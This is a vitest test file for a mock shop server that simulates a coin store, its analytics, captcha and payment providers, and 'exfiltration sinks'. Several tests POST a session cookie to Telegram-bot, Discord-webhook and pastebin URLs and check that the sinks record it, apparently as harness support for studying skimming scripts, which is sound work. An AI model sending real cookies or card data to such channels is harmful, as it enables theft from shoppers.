// Non-shop hosts: fixtures, exfiltration sinks (recorded, permissive CORS), the analytics,
// captcha and payment providers, and the request log.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { LIMITS, SINK_HOSTS, THIRD_PARTY } from '../../shop/config.ts';
import { startShop, type ShopServer } from '../../shop/index.ts';
import { shopClient, type ShopClient } from './client.ts';

const ORIGIN = 'https://kazcoins.nationalbank.kz';
let shop: ShopServer;
let client: ShopClient;

beforeAll(async () => {
  shop = await startShop();
  client = shopClient(shop.httpsPort);
});
afterAll(() => shop.close());
beforeEach(() => {
  shop.reset();
  shop.clearFixtures();
});

describe('fixtures', () => {
  it('serves a fixture on the shop host by default, over a built-in page', async () => {
    shop.setFixture('/kz/', '<p>fixture</p>');
    const reply = await client.get(`${ORIGIN}/kz/`);
    expect(reply.body).toBe('<p>fixture</p>');
    expect(reply.headers['content-type']).toBe('text/html; charset=utf-8');
  });

  it('serves a fixture on another host with its own content type and headers', async () => {
    shop.setFixture('/helper.js', 'window.helper = 1;', {
      host: 'helper-cdn.test',
      contentType: 'text/javascript',
      headers: { 'X-Test': 'yes' },
    });
    const reply = await client.get('https://helper-cdn.test/helper.js');
    expect(reply.body).toBe('window.helper = 1;');
    expect(reply.headers['content-type']).toBe('text/javascript');
    expect(reply.headers['x-test']).toBe('yes');
  });

  it('forgets fixtures on clearFixtures()', async () => {
    shop.setFixture('/x', 'x', { host: 'evil.example' });
    shop.clearFixtures();
    expect((await client.get('https://evil.example/x')).body).toBe('{"ok":true}');
  });
});

describe('sink hosts', () => {
  it.each(SINK_HOSTS)('%s answers anything with {"ok":true} and ACAO *, and records it', async (host) => {
    const reply = await client.send('POST', `https://${host}/bot123/sendMessage?chat_id=1`, 'cookie=sid%3D1', {
      'Content-Type': 'application/x-www-form-urlencoded',
    });
    expect(reply.status).toBe(200);
    expect(reply.body).toBe('{"ok":true}');
    expect(reply.headers['access-control-allow-origin']).toBe('*');
    const recorded = shop.requests.find((r) => r.host === host);
    expect(recorded).toMatchObject({ method: 'POST', path: '/bot123/sendMessage?chat_id=1', body: 'cookie=sid%3D1' });
    expect(recorded?.headers['content-type']).toBe('application/x-www-form-urlencoded');
    expect(recorded?.at).toBeGreaterThan(Date.now() - 5000);
  });

  it('answers CORS preflights permissively', async () => {
    const reply = await client.send('OPTIONS', 'https://discord.com/api/webhooks/1/abc', undefined, {
      Origin: ORIGIN,
      'Access-Control-Request-Method': 'POST',
      'Access-Control-Request-Headers': 'content-type',
    });
    expect(reply.status).toBe(204);
    expect(reply.headers['access-control-allow-origin']).toBe('*');
    expect(reply.headers['access-control-allow-methods']).toBe('POST');
    expect(reply.headers['access-control-allow-headers']).toBe('content-type');
  });

  it('caps recorded bodies at 64 KiB', async () => {
    await client.send('POST', 'https://pastebin.com/api', 'x'.repeat(100_000));
    expect(shop.requests.at(-1)?.body).toHaveLength(LIMITS.recordedBodyBytes);
  });
});

describe('providers', () => {
  it('serves the analytics script and accepts beacons', async () => {
    const script = await client.get(THIRD_PARTY.analyticsScript);
    expect(script.body).toContain('navigator.sendBeacon("https://cdn.shopmetrics.test/collect"');
    const beacon = await client.send('POST', THIRD_PARTY.analyticsCollect, '{"page":"/kz/"}');
    expect(beacon.status).toBe(204);
  });

  it('serves the captcha widget and verifies with a token', async () => {
    expect((await client.get(THIRD_PARTY.captchaScript)).body).toContain('.kp-captcha');
    const verify = await client.post(THIRD_PARTY.captchaVerify, { sitekey: 'kazcoins' });
    expect(verify.headers['access-control-allow-origin']).toBe(ORIGIN);
    expect(verify.json()).toMatchObject({ token: expect.stringMatching(/^kp-/) });
  });

  it('shows a card form for the checkout POST', async () => {
    const reply = await client.send('POST', THIRD_PARTY.payAction, 'orderId=KC-1&amount=38000', {
      'Content-Type': 'application/x-www-form-urlencoded',
    });
    expect(reply.body).toContain('KC-1');
    expect(reply.body).toContain('autocomplete="cc-number"');
  });

  it('refuses hosts it does not serve with 421', async () => {
    expect((await client.get('https://example.com/')).status).toBe(421);
  });
});

describe('request log', () => {
  it('records shop requests and is emptied in place by reset()', async () => {
    const log = shop.requests;
    await client.get(`${ORIGIN}/api/stock/p-101`);
    expect(log.map((r) => `${r.host}${r.path}`)).toContain('kazcoins.nationalbank.kz/api/stock/p-101');
    shop.reset();
    expect(log).toHaveLength(0);
  });
});
